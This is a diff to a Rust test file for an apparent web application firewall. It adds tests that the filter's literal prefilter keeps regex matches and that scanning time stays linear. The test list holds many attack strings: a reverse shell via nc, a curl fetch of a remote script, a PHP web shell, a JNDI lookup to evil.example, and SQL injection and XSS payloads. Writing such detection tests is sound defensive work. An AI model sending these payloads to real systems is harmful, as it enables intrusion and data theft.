@@ -1,5 +1,6 @@
 use super::*;
 use crate::config::Config;
+use crate::decode::apply;
 
 fn filter_from(json: &str) -> Filter {
     match Config::from_json(json.as_bytes()) {
@@ -891,5 +892,122 @@ fn rules_scale_linearly_from_one_to_two_mib() {
     assert!(
         ratio < 3.2,
         "2 MiB took {two:?}, 1 MiB took {one:?}, ratio {ratio:.2}"
+    );
+}
+
+/// Attack values of every rule family, for checking that the literal gate
+/// lets each regex match through.
+const GATE_SAMPLES: &[&str] = &[
+    "../../etc/passwd",
+    "..%2f..%2fwindows/win.ini",
+    "http://10.0.0.1/shell.txt?",
+    "php://filter/convert.base64-encode/resource=index",
+    ";cat /etc/passwd",
+    "| nc -e /bin/sh 10.0.0.1 4444",
+    "$(curl http://x.y/z.sh)",
+    "`id`",
+    "/b?n/c?t /e?c/p?sswd",
+    "cmd.exe /c whoami",
+    "powershell -enc SQBFAFgA",
+    "a=1; b=$a; x${a}y",
+    "() { :; }; /bin/bash -c id",
+    "sh -c 'id'",
+    "<?php system($_GET['c']); ?>",
+    "eval(base64_decode('x'))",
+    "$_SERVER['HTTP_HOST']",
+    "$f='sys'.'tem'; $f('id')",
+    "allow_url_include=1",
+    "O:8:\"stdClass\":1:{s:1:\"a\";}",
+    "java.lang.Runtime.getRuntime().exec('id')",
+    "rO0ABXNyABFqYXZh",
+    "${T(java.lang.Runtime).getRuntime()}",
+    "${jndi:ldap://evil.example/a}",
+    "__proto__[admin]=1",
+    "require('child_process').exec('id')",
+    "{{7*7}}",
+    "{% import os %}",
+    "http://169.254.169.254/latest/meta-data/",
+    "http://2130706433/",
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "javascript:alert(document.cookie)",
+    "<svg/onload=alert(1)>",
+    "+ADw-script+AD4-",
+    "expression(alert(1))",
+    "' or '1'='1",
+    "1 union select null,version()--",
+    "1; drop table users--",
+    "admin'--",
+    "1 and sleep(5)",
+    "' and extractvalue(1,concat(0x7e,user()))--",
+    "select * from information_schema.tables",
+    "1' order by 3--",
+    "waitfor delay '0:0:5'",
+    "'||(select 1)||'",
+    "1 and 1=1",
+    "x')::text",
+    "%0d%0aSet-Cookie: a=b",
+    "GET / HTTP/1.1",
+    "*)(uid=*))(|(uid=*",
+    "document.cookie=\"a=b\"",
+    "nikto",
+    "../../../.git/config",
+];
+
+#[test]
+fn literal_gate_keeps_every_regex_match() {
+    let filter = filter_from(r#"{"filter": {"paranoia_level": 4}}"#);
+    for sample in GATE_SAMPLES {
+        for (index, rule) in filter.rules().iter().enumerate() {
+            let text = to_text(&apply(&filter.chains[rule.chain], sample.as_bytes()));
+            if rule.find(&text).is_none() {
+                continue;
+            }
+            let mut found = vec![0; filter.prefilter.set_words()];
+            filter.prefilter.scan(&text, &mut found);
+            assert!(
+                filter.prefilter.allows(index, &found),
+                "{} matches {sample:?} but its literal gate skips it",
+                rule.info.id
+            );
+        }
+    }
+}
+
+/// Times `Filter::inspect_body` on a plain-text body of `size` bytes made of
+/// attack fragments that pass most literal gates.
+fn time_body(filter: &Filter, size: usize) -> std::time::Duration {
+    let unit = "select a from b or 1=1 <img src=x> ${env:x} ../ cat /bin/ eval($x) 'x' ";
+    let body: String = unit
+        .repeat(size / unit.len() + 1)
+        .chars()
+        .take(size)
+        .collect();
+    let headers = with_body("POST", "text/plain", &body);
+    let started = std::time::Instant::now();
+    let mut assessment = Assessment::default();
+    filter.inspect_body(&mut assessment, &headers, body.as_bytes());
+    started.elapsed()
+}
+
+#[test]
+fn filter_scales_linearly_to_one_mib() {
+    let filter = filter_from(r#"{"filter": {"paranoia_level": 4}}"#);
+    // The minimum of several runs drops runs slowed by tests running in
+    // parallel.
+    let small = (0..5)
+        .map(|_| time_body(&filter, 256 * 1024))
+        .min()
+        .unwrap_or_default();
+    let large = (0..5)
+        .map(|_| time_body(&filter, 1024 * 1024))
+        .min()
+        .unwrap_or_default();
+    println!("1 MiB took {large:?}, 256 KiB took {small:?}");
+    // Linear time gives a ratio near 4, quadratic time one near 16.
+    let ratio = large.as_secs_f64() / small.as_secs_f64().max(1e-9);
+    assert!(
+        ratio < 8.0,
+        "1 MiB took {large:?}, 256 KiB took {small:?}, ratio {ratio:.2}"
     );
 }
